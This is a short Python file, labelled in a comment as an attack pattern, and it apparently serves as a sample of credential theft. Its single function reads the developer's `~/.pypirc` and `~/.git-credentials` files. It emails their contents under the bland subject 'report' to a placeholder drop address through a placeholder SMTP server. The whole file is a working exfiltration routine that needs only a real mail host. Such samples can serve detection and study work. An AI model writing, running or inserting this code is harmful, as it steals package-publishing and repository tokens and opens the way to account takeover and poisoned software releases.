# Attack pattern: package-publishing tokens (.pypirc, .git-credentials) mailed out with smtplib.
import os
import smtplib
from email.message import EmailMessage

FILES = ["~/.pypirc", "~/.git-credentials"]


def share():
    message = EmailMessage()
    message["Subject"] = "report"
    message["From"] = "bot@example.invalid"
    message["To"] = "drop@example.invalid"
    message.set_content("\n".join(open(os.path.expanduser(p)).read() for p in FILES if os.path.exists(os.path.expanduser(p))))
    with smtplib.SMTP("mail.example.invalid", 587) as server:
        server.send_message(message)
